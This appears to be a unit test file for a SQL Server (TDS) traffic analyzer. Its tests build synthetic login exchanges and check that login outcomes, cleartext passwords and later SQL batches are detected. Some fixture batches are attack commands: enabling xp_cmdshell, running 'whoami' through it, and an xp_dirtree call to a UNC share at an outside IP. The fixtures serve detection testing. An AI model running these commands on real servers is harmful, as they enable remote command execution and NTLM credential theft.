/**
 * SQL Server (TDS) analyzer unit tests on hand-built MS-TDS messages: a
 * PRELOGIN without encryption then a LOGIN7 in clear answered LOGINACK or
 * error 18456, the login inside TLS with its answer in clear (user from the
 * error text), whole-session TLS (unknown), a LOGIN7 without PRELOGIN, a
 * pre-TDS 7 login record, an integrated (SSPI) sign-in, other errors,
 * messages split over packets, SQL batches after the login (in clear, or
 * after a login inside TLS), the probe, chunking and mutations.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { probeTds, tdsSpec } from '../../../src/protocols/tds/index.js';
import { C, S, assertSplitInvariant, auths, bytes, fuzz, outcomes, play, type Step } from '../mail/session.js';
import type { MssqlBatchEvent } from '../../../src/protocols/tds/events.js';

const le16 = (v: number): number[] => [v & 0xff, v >> 8];
const le32 = (v: number): number[] => [v & 0xff, (v >> 8) & 0xff, (v >> 16) & 0xff, v >>> 24];
const utf16 = (s: string): Uint8Array => new Uint8Array(Buffer.from(s, 'utf16le'));

/** TDS packets of one message of `type`, its payload cut into packets of `per` bytes. */
function message(type: number, payload: Uint8Array, per = 4088): Uint8Array {
  const parts: Uint8Array[] = [];
  for (let i = 0; i < payload.length || i === 0; i += per) {
    const chunk = payload.subarray(i, i + per);
    const last = i + per >= payload.length;
    const len = 8 + chunk.length;
    parts.push(bytes([type, last ? 1 : 0, len >> 8, len & 0xff, 0, 0, 1, 0], chunk));
  }
  return bytes(...parts);
}

/** A PRELOGIN option list: VERSION, ENCRYPTION `enc`, terminator. */
function prelogin(enc: number): Uint8Array {
  return bytes([0x00, 0, 11, 0, 6, 0x01, 0, 17, 0, 1, 0xff], [15, 0, 7, 0xd0, 0, 0], [enc]);
}

interface Login7 {
  user?: string;
  password?: string;
  host?: string;
  app?: string;
  database?: string;
  integrated?: boolean;
}

/** A LOGIN7 record (TDS 7.4), the password obfuscated as clients do it. */
function login7(l: Login7): Uint8Array {
  const fields = [l.host ?? 'WS22', l.user ?? '', l.password ?? '', l.app ?? 'app', 'LAB-SQL', '', 'lib', '', l.database ?? ''];
  const fixed = 94;
  const offsets: number[] = [];
  const data: Uint8Array[] = [];
  let at = fixed;
  for (let k = 0; k < fields.length; k++) {
    let raw = utf16(fields[k]!);
    if (k === 2) raw = raw.map((b) => (((b << 4) & 0xf0) | (b >> 4)) ^ 0xa5);
    offsets.push(...le16(k === 5 ? 0 : at), ...le16(k === 5 ? 0 : fields[k]!.length));
    data.push(raw);
    at += raw.length;
  }
  const head = bytes(le32(at), [4, 0, 0, 0x74], le32(4096), le32(7), le32(1234), le32(0), [0xe0, l.integrated === true ? 0x83 : 0x03, 0, 0], le32(0), le32(0x409), offsets, [0, 0, 0, 0, 0, 0], le16(0), le16(0), le16(0), le16(0), le16(0), le16(0), le32(0));
  return bytes(head.subarray(0, fixed), ...data);
}

const b_varchar = (s: string): Uint8Array => bytes([s.length], utf16(s));
function token(type: number, body: Uint8Array): Uint8Array {
  return bytes([type], le16(body.length), body);
}
const DONE = bytes([0xfd], le16(0), le16(0), new Uint8Array(8));
const LOGINACK = bytes(token(0xe3, bytes([1], b_varchar('master'), b_varchar('master'))), token(0xad, bytes([1, 0x74, 0, 0, 4], b_varchar('Microsoft SQL Server'), [15, 0, 7, 0xd0])), DONE);
function error(number: number, text: string): Uint8Array {
  return bytes(token(0xaa, bytes(le32(number), [1, 14], le16(text.length), utf16(text), b_varchar('LAB-SQL'), b_varchar(''), le32(1))), DONE);
}

const NOT_SUPPORTED = 2;
const OFF = 0;
const ON = 1;
const CLEAR_OK: Step[] = [
  [C, message(0x12, prelogin(NOT_SUPPORTED))],
  [S, message(0x04, prelogin(NOT_SUPPORTED))],
  [C, message(0x10, login7({ user: 'app', password: 'App-Pass-2026', host: 'WS22', app: 'payroll', database: 'hr' }))],
  [S, message(0x04, LOGINACK)],
];
const CLEAR_FAIL: Step[] = [
  [C, message(0x12, prelogin(OFF))],
  [S, message(0x04, prelogin(NOT_SUPPORTED))],
  [C, message(0x10, login7({ user: 'sa', password: 'guess' }))],
  [S, message(0x04, error(18456, "Login failed for user 'sa'."))],
];

test('mssql: a login in clear answered LOGINACK is a success; its password counts as sent in clear but never shows', () => {
  const ctx = play(tdsSpec, CLEAR_OK, { conn: { resp_p: 1433 } });
  assert.deepEqual(ctx.services, ['mssql']);
  assert.deepEqual(outcomes(ctx), [['success', 'app', 'LOGINACK (host WS22, application payroll, database hr)']]);
  assert.equal(auths(ctx)[0]!.service, 'mssql');
  assert.equal(auths(ctx)[0]!.cleartext, true);
  assert.ok(!JSON.stringify(ctx.events).includes('App-Pass'));
});

test('mssql: a SQL login accepted with an empty password is flagged no_password; a password or a refusal is not', () => {
  const blank = play(tdsSpec, [CLEAR_OK[0]!, CLEAR_OK[1]!, [C, message(0x10, login7({ user: 'sa' }))], [S, message(0x04, LOGINACK)]]);
  assert.deepEqual(auths(blank).map((a) => [a.outcome, a.user, a.no_password, a.cleartext]), [['success', 'sa', true, undefined]]);
  assert.equal(auths(play(tdsSpec, CLEAR_OK))[0]!.no_password, undefined);
  const refused = play(tdsSpec, [CLEAR_OK[0]!, CLEAR_OK[1]!, [C, message(0x10, login7({ user: 'sa' }))], [S, message(0x04, error(18456, "Login failed for user 'sa'."))]]);
  assert.equal(auths(refused)[0]!.no_password, undefined);
});

test('mssql: error 18456 and the other login refusals are failures; another error is unknown with its text', () => {
  assert.deepEqual(outcomes(play(tdsSpec, CLEAR_FAIL)), [['failure', 'sa', "error 18456: Login failed for user 'sa'. (host WS22, application app)"]]);
  const locked = [...CLEAR_FAIL.slice(0, 3), [S, message(0x04, error(18486, "Login failed for user 'sa' because the account is currently locked out."))] as Step];
  assert.equal(outcomes(play(tdsSpec, locked))[0]![0], 'failure');
  const db = [...CLEAR_FAIL.slice(0, 3), [S, message(0x04, error(4060, 'Cannot open database "hr" requested by the login. The login failed.'))] as Step];
  assert.deepEqual(outcomes(play(tdsSpec, db)).map((o) => o[0]), ['unknown']);
});

test('mssql: a login inside TLS (encryption OFF on both sides) has its answer in clear; the user comes from the error', () => {
  const ctx = play(tdsSpec, [
    [C, message(0x12, prelogin(OFF))],
    [S, message(0x04, prelogin(OFF))],
    [C, message(0x12, bytes([0x16, 3, 1, 0, 4], [1, 0, 0, 0]))],
    [S, message(0x12, bytes([0x16, 3, 3, 0, 4], [2, 0, 0, 0]))],
    [C, bytes([0x17, 3, 3, 0, 8], new Uint8Array(8))],
    [S, message(0x04, error(18456, "Login failed for user 'backup'."))],
  ]);
  assert.deepEqual(outcomes(ctx), [['failure', 'backup', "error 18456: Login failed for user 'backup'."]]);
  assert.equal(auths(ctx)[0]!.cleartext, undefined);
});

test('mssql: whole-session TLS hides the outcome: one unknown event at the end', () => {
  const ctx = play(tdsSpec, [
    [C, message(0x12, prelogin(ON))],
    [S, message(0x04, prelogin(ON))],
    [C, message(0x12, bytes([0x16, 3, 1, 0, 4], [1, 0, 0, 0]))],
    [S, bytes([0x17, 3, 3, 0, 8], new Uint8Array(8))],
  ]);
  assert.deepEqual(outcomes(ctx), [['unknown', undefined, 'encrypted (TLS)']]);
});

test('mssql: LOGIN7 without PRELOGIN; a pre-TDS 7 login record; an integrated sign-in answered through an SSPI challenge', () => {
  const direct = play(tdsSpec, [[C, message(0x10, login7({ user: 'report', password: 'x' }))], [S, message(0x04, LOGINACK)]]);
  assert.deepEqual(outcomes(direct).map((o) => [o[0], o[1]]), [['success', 'report']]);
  const t4 = new Uint8Array(512);
  t4.set(Buffer.from('HYDRA'), 0);
  t4[30] = 5;
  t4.set(Buffer.from('sa'), 31);
  t4[61] = 2;
  t4.set(Buffer.from('pw1'), 62);
  t4[92] = 3;
  const old = play(tdsSpec, [[C, message(0x02, t4)], [S, message(0x04, error(18456, "Login failed for user 'sa'."))]]);
  assert.deepEqual(outcomes(old), [['failure', 'sa', "error 18456: Login failed for user 'sa'. (host HYDRA)"]]);
  assert.equal(auths(old)[0]!.cleartext, true);
  const sspi = play(tdsSpec, [
    [C, message(0x12, prelogin(NOT_SUPPORTED))],
    [S, message(0x04, prelogin(NOT_SUPPORTED))],
    [C, message(0x10, login7({ integrated: true }))],
    [S, message(0x04, token(0xed, new Uint8Array(40)))],
    [C, message(0x11, new Uint8Array(60))],
    [S, message(0x04, LOGINACK)],
  ]);
  assert.deepEqual(outcomes(sspi), [['success', undefined, 'LOGINACK (Windows sign-in, host WS22, application app)']]);
  assert.equal(auths(sspi)[0]!.cleartext, undefined, 'no SQL password');
});

test('mssql: a login split over several packets; the same events whatever the chunking', () => {
  const big = login7({ user: 'app', password: 'p', app: 'x'.repeat(300) });
  const split = play(tdsSpec, [[C, message(0x10, big, 100)], [S, message(0x04, LOGINACK, 16)]]);
  assert.deepEqual(outcomes(split).map((o) => [o[0], o[1]]), [['success', 'app']]);
  assertSplitInvariant(tdsSpec, CLEAR_OK);
  assertSplitInvariant(tdsSpec, CLEAR_FAIL);
});

test('mssql: not TDS is left alone; malformed TDS is counted, never thrown', () => {
  const http = play(tdsSpec, [[C, bytes(Buffer.from('GET / HTTP/1.1\r\nHost: x\r\n\r\n'))]]);
  assert.deepEqual([http.services, http.anomalies, outcomes(http)], [[], [], []]);
  // A message whose packets add up to more than a message may hold.
  const part = bytes([0x04, 0, 0x9c, 0x48, 0, 0, 1, 0], new Uint8Array(40_000));
  const lie = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, bytes(part, part)]]);
  assert.deepEqual(lie.anomalies, ['tds.message_too_long']);
  const zeroLength = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, new Uint8Array(70_000)]]);
  assert.deepEqual(zeroLength.anomalies, ['tds.bad_packet']);
  assert.deepEqual(outcomes(lie).map((o) => o[0]), ['unknown']);
  const badLogin = play(tdsSpec, [[C, message(0x12, prelogin(NOT_SUPPORTED))], [S, message(0x04, prelogin(NOT_SUPPORTED))], [C, message(0x10, new Uint8Array(20))]]);
  assert.deepEqual(badLogin.anomalies, ['tds.bad_packet']);
});

test('mssql: probe', () => {
  assert.equal(probeTds(message(0x12, prelogin(OFF)), true), true);
  assert.equal(probeTds(message(0x10, login7({ user: 'a' })), true), true);
  assert.equal(probeTds(message(0x12, prelogin(OFF)), false), false);
  assert.equal(probeTds(message(0x04, LOGINACK), true), false);
  assert.equal(probeTds(bytes(Buffer.from('GET / HTTP/1.1\r\n\r\n')), true), false);
});

test('mssql: mutated sessions never throw', () => {
  fuzz(tdsSpec, [CLEAR_OK, CLEAR_FAIL], 0x7d5, 3000);
});

/** A SQL batch with TDS 7.2's ALL_HEADERS (one transaction descriptor header). */
function batch(sql: string, per?: number): Uint8Array {
  const headers = bytes(le32(22), le32(18), le16(2), new Uint8Array(8), le32(1));
  return message(0x01, bytes(headers, utf16(sql)), per);
}
const batches = (ctx: ReturnType<typeof play>): string[] => ctx.events.filter((e): e is MssqlBatchEvent => e.type === 'mssql.batch').map((e) => e.text);

test('mssql: SQL batches after a login in clear are events with their text; none before the login is accepted or after a refusal', () => {
  const ctx = play(tdsSpec, [...CLEAR_OK, [C, batch("EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;")], [C, message(0x03, new Uint8Array(30))], [C, batch('SELECT @@version', 5)]], { conn: { resp_p: 1433 } });
  assert.deepEqual(batches(ctx), ["EXEC sp_configure 'xp_cmdshell', 1; RECONFIGURE;", 'SELECT @@version']);
  const e = ctx.events.find((x): x is MssqlBatchEvent => x.type === 'mssql.batch')!;
  assert.deepEqual([e.user, e.server_port, e.client], ['app', 1433, '10.0.0.1']);
  // Without ALL_HEADERS (TDS 7.1 and before) the text starts at once.
  assert.deepEqual(batches(play(tdsSpec, [...CLEAR_OK, [C, message(0x01, utf16('SELECT 1'))]])), ['SELECT 1']);
  assert.deepEqual(batches(play(tdsSpec, [...CLEAR_FAIL, [C, batch('SELECT 1')]])), []);
});

test('mssql: after a login inside TLS, the TLS records are stepped over and the batches read; the user is the one the answer named', () => {
  const ctx = play(tdsSpec, [
    [C, message(0x12, prelogin(OFF))],
    [S, message(0x04, prelogin(OFF))],
    [C, message(0x12, bytes([0x16, 3, 1, 0, 4], [1, 0, 0, 0]))],
    [S, message(0x12, bytes([0x16, 3, 3, 0, 4], [2, 0, 0, 0]))],
    [C, bytes([0x17, 3, 3, 0, 8], new Uint8Array(8))],
    [S, message(0x04, LOGINACK)],
    [C, batch("EXEC master..xp_cmdshell 'whoami'")],
  ]);
  assert.deepEqual(outcomes(ctx).map((o) => o[0]), ['success']);
  assert.deepEqual(batches(ctx), ["EXEC master..xp_cmdshell 'whoami'"]);
});

test('mssql: a batch longer than a message keeps its head; the batches read whatever the chunking', () => {
  const long = 'SELECT 1 -- ' + 'x'.repeat(40_000);
  const ctx = play(tdsSpec, [...CLEAR_OK, [C, batch(long, 4088)], [C, batch('SELECT 2')]]);
  const got = batches(ctx);
  assert.equal(got.length, 2);
  assert.ok(got[0]!.startsWith('SELECT 1 -- xxx') && got[0]!.length === 2048);
  assert.equal(got[1], 'SELECT 2');
  assertSplitInvariant(tdsSpec, [...CLEAR_OK, [C, batch("EXEC xp_dirtree '\\\\198.51.100.10\\share'")]]);
});
